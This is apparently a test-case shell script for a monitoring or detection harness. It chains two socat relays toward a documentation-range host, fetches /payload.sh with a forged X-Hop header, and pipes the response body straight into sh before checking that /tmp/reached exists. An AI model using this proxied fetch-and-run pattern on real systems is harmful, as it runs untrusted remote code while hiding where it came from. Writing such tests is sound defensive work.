#!/bin/sh
. /opt/case/case.sh

socat TCP4-LISTEN:7001,bind=127.0.0.1,fork,reuseaddr TCP4:203.0.113.31:8080 & a=$!
socat TCP4-LISTEN:7002,bind=127.0.0.1,fork,reuseaddr TCP4:127.0.0.1:7001 & b=$!
sleep 0.5
curl -s -x http://127.0.0.1:7002 http://203.0.113.40/hop1 >/dev/null
printf 'GET /payload.sh HTTP/1.0\r\nX-Hop: 203.0.113.40, 203.0.113.50\r\n\r\n' | socat -t 3 - TCP4:127.0.0.1:7002 | sed '1,/^\r$/d' | sh
kill $a $b
test -e /tmp/reached
took_place
